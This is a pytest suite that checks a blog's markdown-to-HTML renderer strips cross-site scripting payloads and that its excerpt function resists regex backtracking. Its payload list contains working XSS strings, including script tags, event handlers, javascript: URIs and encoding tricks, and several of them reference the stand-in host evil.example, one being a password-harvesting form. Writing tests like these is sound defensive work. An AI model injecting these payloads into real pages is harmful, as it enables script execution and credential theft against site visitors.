"""Nothing that an author writes runs in a reader's browser."""

from html.parser import HTMLParser

import pytest

from blog.services.markdown import to_html, to_words

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></ScRiPt>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<style>@import 'https://evil.example'</style>",
    "<base href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><input name=password></form>",
    "<object data=data:text/html,<script>alert(1)</script>>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x](javascript:alert(1))",
    '![" onerror="alert(1)](x)',
    '[x](https://example.com "onmouseover=alert(1)")',
    "<https://example.com/\"onmouseover='alert(1)'>",
    "[x]: javascript:alert(1)\n\n[x]",
    "```js\" onload=\"alert(1)\nx\n```",
    "```<script>\nalert(1)\n```",
    "<x\x00script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "**<script>alert(1)</script>**",
    "| <script>x</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
]  # fmt: skip


class Page(HTMLParser):
    """What a browser would find: every tag and every attribute."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str]] = []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes += [(name, value or "") for name, value in attrs]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_survives(payload):
    page = Page(to_html(payload))

    forbidden = {
        "script",
        "style",
        "iframe",
        "object",
        "svg",
        "math",
        "form",
        "input",
        "base",
        "meta",
        "body",
        "details",
    }
    assert not page.tags & forbidden
    for name, value in page.attributes:
        assert not name.startswith("on")
        if name in ("href", "src"):
            scheme, colon, _ = value.strip().partition(":")
            assert not colon or scheme.lower() in ("http", "https", "mailto")


def test_what_writers_need_stays():
    html = to_html("# Title\n\n*a* **b** `c` ~~d~~\n\n- [link](https://example.com)\n\n| a | b |\n|---|---|\n| 1 | 2 |")

    for tag in ("<h1>", "<em>", "<strong>", "<code>", "<s>", "<li>", "<table>", "<th>"):
        assert tag in html
    assert 'href="https://example.com" rel="nofollow noopener noreferrer"' in html


def test_code_keeps_its_language_and_no_other_class():
    assert '<code class="language-python">' in to_html("```python\nx\n```")
    assert "class=" not in to_html("```x y\nx\n```").replace('class="language-x"', "")


def test_our_own_images_need_no_scheme():
    assert '<img src="/media/1.webp" alt="a">' in to_html("![a](/media/1.webp)")


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("# A title\n\nText", "A title\n\nText"),
        ("```sh\ndocker run\n```", "\ndocker run\n"),
        ("`docker history`로 기록을", "docker history로 기록을"),
        ("1. **latest** 태그\n- two", "latest 태그\ntwo"),
        ("see [the page](https://example.com/a_b) ![alt](x.png)", "see the page alt"),
        ("> quoted\n2 * 3 * 4, snake_case, a - b", "quoted\n2 * 3 * 4, snake_case, a - b"),
    ],
)
def test_an_excerpt_has_no_marks(text, words):
    assert to_words(text) == words


@pytest.mark.parametrize("rubbish", ["[", "!", " ", "\n", " \n"])
def test_an_excerpt_of_rubbish_is_the_rubbish(rubbish):
    """With a repetition that can match in many ways, each of these would take half a minute."""
    assert to_words(rubbish * 50_000) == rubbish * 50_000
